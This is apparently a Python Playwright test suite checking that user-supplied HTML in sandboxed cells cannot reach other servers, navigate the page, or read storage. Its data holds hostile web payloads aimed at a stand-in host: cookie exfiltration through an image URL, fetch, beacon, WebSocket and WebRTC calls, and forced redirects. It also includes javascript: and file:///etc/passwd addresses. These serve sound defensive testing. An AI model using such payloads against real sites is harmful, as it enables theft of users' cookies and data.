"""HTML of a cell may be hostile: nothing of it arrives anywhere, and it leads nobody away."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page

from tests.browser.cells import call, card, content, make, patch
from tests.browser.conftest import Site
from tests.browser.recorder import Recorder, recording

# What each tries; "H" is the other server. Scripts end by saying that they tried.
REQUESTS = {
    "calls": """<script>
        const go = (work) => { try { const done = work(); done?.catch?.(() => 0); } catch {} };
        go(() => fetch("http://H/fetch")); go(() => navigator.sendBeacon("http://H/beacon", "x"));
        go(() => new WebSocket("ws://H/socket")); go(() => new EventSource("http://H/events"));
        go(() => { const x = new XMLHttpRequest(); x.open("GET", "http://H/xhr"); x.send(); });
        go(() => import("http://H/import.js")); go(() => new Worker("http://H/worker.js"));
        go(() => { new Image().src = "http://H/image?" + document.cookie; });
        go(() => new Audio("http://H/audio").play()); go(() => window.open("http://H/open"));
        go(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://H/in-worker')"]))));
        go(() => parent.location.replace("http://H/parent"));
        go(() => { top.location = "http://H/top"; });
        </script>""",
    "markup": """<link rel=stylesheet href=http://H/a><link rel=prefetch href=http://H/b>
        <link rel=preload as=image href=http://H/c><link rel=icon href=http://H/d>
        <link rel=modulepreload href=http://H/e><link rel=preconnect href=http://H>
        <style>@import "http://H/f"; @font-face { font-family: x; src: url(http://H/g); }
        body { background: url(http://H/h); font-family: x }</style><object data=http://H/i></object>
        <img src=http://H/j srcset="http://H/k 2x" attributionsrc=http://H/l><embed src=http://H/m>
        <video src=http://H/n poster=http://H/o autoplay></video><script src=http://H/p></script>
        <svg><image href=http://H/q /><use href="http://H/r#a" /></svg>
        <input type=image src=http://H/s><script type=speculationrules>
        {"prefetch": [{"source": "list", "urls": ["http://H/t"]}]}</script>
        <base href=http://H/><img src=u>""",
    "form": """<form id=f action=http://H/form><input name=a value=secret></form><script>
        f.submit(); f.requestSubmit?.(); f.target = "_top"; f.submit();</script>""",
    "links": """<a id=a href=http://H/top target=_top>a</a>
        <a id=b href=http://H/new target=_blank>b</a>
        <script>a.click(); b.click();</script>""",
    "peers": """<script>try { const peer = new RTCPeerConnection({iceServers: [{urls: "stun:H"}]});
        peer.createDataChannel("a"); peer.createOffer().then((o) => peer.setLocalDescription(o)); }
        catch {}</script>""",
    "peers of a frame within": """<div id=d></div><script>
        const inner = '<script>try { const peer = new RTCPeerConnection('
            + '{iceServers: [{urls: "stun:H"}]}); peer.createDataChannel("a");'
            + 'peer.createOffer().then((o) => peer.setLocalDescription(o)); }'
            + 'catch {}; console.log("tried within")<' + '/script>';
        const frame = document.createElement("iframe"); frame.srcdoc = inner;
        d.attachShadow({mode: "closed"}).append(frame);</script>""",
}  # fmt: skip
LEAVING = {
    "location": 'location = "http://H/location?secret"',
    "replace": 'location.replace("http://H/replace?secret")',
    "link": 'a.href = "http://H/link?secret"; a.click()',
    "refresh": "document.head.innerHTML = \"<meta http-equiv=refresh content='0; url=http://H/r'>\"",
    "data": "location = 'data:text/html,<img src=http://H/data>'",
    "login": 'location = "OWN/login"',
    "pages": 'location = "OWN/"',
}
NO_PICTURES = (
    "javascript:window.pwned=1", "java\nscript:window.pwned=1", " JavaScript:window.pwned=1",
    "vbscript:x", "data:text/html,<script>parent.pwned=1</script>", "blob:http://localhost/1",
    "file:///etc/passwd", "about:blank", "http://user:password@localhost/x.png", "http://",
)  # fmt: skip
# The browser logs each attempt: they are what these tests are about.
FORGIVEN = (
    "Content Security Policy", "sandbox", "Blocked", "Unsafe attempt", "Framing", "Failed to load",
    "Refused", "CORS policy", "Unrecognized", "Access to", "'base' element", "Not allowed",
    "failed to load", "ERR_BLOCKED",
)  # fmt: skip


@pytest.fixture
async def recorder(site: Site) -> AsyncIterator[Recorder]:
    """The other server. Attempts are no complaints, whether they arrive decides."""
    site.forgiven = FORGIVEN
    async with recording() as recorder:
        yield recorder
        site.complaints.clear()


async def shown(page: Page, *ids: str) -> None:
    """Wait until all these cells show something."""
    for id in ids:
        await card(page, id).locator("iframe:not([aria-hidden])").wait_for(state="attached")


async def test_nothing_arrives_elsewhere(site: Site, recorder: Recorder) -> None:
    """By calls, markup, forms, links, connections between browsers; the page stays, alone."""
    tell = "<script>console.log('tried')</script>"
    tried = asyncio.Queue[str]()
    ids = [
        await make(site, name, value=html.replace("H/", f"{recorder.host}/").replace(
            "stun:H", f"stun:{recorder.host}") + tell)
        for name, html in REQUESTS.items()
    ]  # fmt: skip
    page = await site.page()
    page.on("console", lambda m: tried.put_nowait(m.text) if "tried" in m.text else None)
    await page.goto(site.url)

    said = [await asyncio.wait_for(tried.get(), 20) for _ in range(len(ids) + 1)]
    await shown(page, *ids)
    # What was tried first would have come before this, which is tried last, and arrives.
    await site.http.get(f"http://{recorder.host}/control")

    assert sorted(said) == ["tried"] * len(ids) + ["tried within"]
    assert [line.split()[1] for line in recorder.arrived] == ["/control"]
    assert urlsplit(page.url).path == "/"
    assert len(site.context.pages) == 1


async def test_a_frame_that_leaves_is_out_of_sight(site: Site, recorder: Recorder) -> None:
    """For another server it can't, to which no request goes; for our own pages it is hidden."""
    own = "<a id=a>a</a><script>onmessage = null; setTimeout(() => { GO }, 300)</script>"
    ids = [
        await make(site, name, value=own.replace("GO", go).replace(
            "H/", f"{recorder.host}/").replace("OWN", site.url))
        for name, go in LEAVING.items()
    ]  # fmt: skip
    page = await site.page()
    await page.set_viewport_size({"width": 1280, "height": 3000})  # all cards in sight
    await page.goto(site.url)

    for id in ids:
        hidden = card(page, id).locator("iframe.sandbox-doubt")
        await hidden.wait_for(state="attached")
        assert not await hidden.is_visible()
    await site.http.get(f"http://{recorder.host}/control")

    assert [line.split()[1] for line in recorder.arrived] == ["/control"]
    assert urlsplit(page.url).path == "/"


async def test_a_frame_that_left_comes_back_with_the_next_patch(
    site: Site, recorder: Recorder
) -> None:
    """A new frame for each value: what an earlier one did ends with it."""
    script = f'<script>setTimeout(() => {{ location = "{site.url}/login" }}, 100)</script>'
    id = await make(site, "leaves", value=script)
    page = await site.page()
    await page.goto(site.url)
    await card(page, id).locator("iframe.sandbox-doubt").wait_for(state="attached")

    await patch(site, id, value="<p>here again</p>")

    await content(page, id).get_by_text("here again").wait_for()


async def test_a_frame_that_sends_without_end_is_stopped(site: Site) -> None:
    """With words in its place; the page answers, and so does its cell, when it is patched."""
    send = "for (let i = 0; i < 300; i++) parent.postMessage({}, '*')"
    id = await make(site, "flood", value=f"<script>setInterval(() => {{ {send} }}, 1)</script>")
    page = await site.page()
    await page.goto(site.url)
    await card(page, id).get_by_text("so much to the page around it").wait_for()
    assert await page.locator("iframe").count() == 0

    await patch(site, id, value="<p>quiet now</p>")

    await content(page, id).get_by_text("quiet now").wait_for()


async def test_no_script_of_a_frame_reads_or_asks_anything(site: Site) -> None:
    """Neither the page, nor its storage, nor the API, nor a file of this server."""
    site.forgiven = FORGIVEN
    tries = """<pre id=out></pre><script>(async () => {
        const script = () => new Promise((ok, no) => {
            const s = document.createElement("script");
            s.src = "OWN/static/bokeh.min.js"; s.onload = ok; s.onerror = no;
            document.head.append(s);
        });
        const found = {};
        for (const [name, go] of Object.entries({
            page: () => parent.document.title, storage: () => localStorage.length,
            cookie: () => document.cookie, api: () => fetch("OWN/values"), script,
            beacon: () => { if (!navigator.sendBeacon("OWN/values", "{}")) throw 1; throw 1; },
        })) { try { await go(); found[name] = "done"; } catch { found[name] = "refused"; } }
        out.textContent = JSON.stringify(found);
    })()</script>"""
    id = await make(site, "tries", value=tries.replace("OWN", site.url))
    page = await site.page()
    await page.goto(site.url)
    out = content(page, id).locator("#out")
    await content(page, id).get_by_text("beacon").wait_for()

    assert set((await out.inner_text()).replace('"', "").strip("{}").split(",")) == {
        f"{what}:refused" for what in ("page", "storage", "cookie", "api", "script", "beacon")
    }
    assert len(await call(site, "GET")) == 1


async def test_an_address_that_is_none_of_a_picture_is_only_words(site: Site) -> None:
    """Nothing of it is loaded, and it stands there as text."""
    ids = [await make(site, address, type="img", value=address) for address in NO_PICTURES]
    page = await site.page()
    await page.set_viewport_size({"width": 1280, "height": 3000})  # all cards in sight
    await page.goto(site.url)

    for id, address in zip(ids, NO_PICTURES, strict=True):
        await card(page, id).get_by_text("can't be shown").wait_for()
        words = await card(page, id).locator(".cell-status").inner_text()
        assert " ".join(address.split()) in " ".join(words.split())

    assert await page.locator("img, iframe, video").count() == 0
    assert await page.evaluate("() => window.pwned") is None
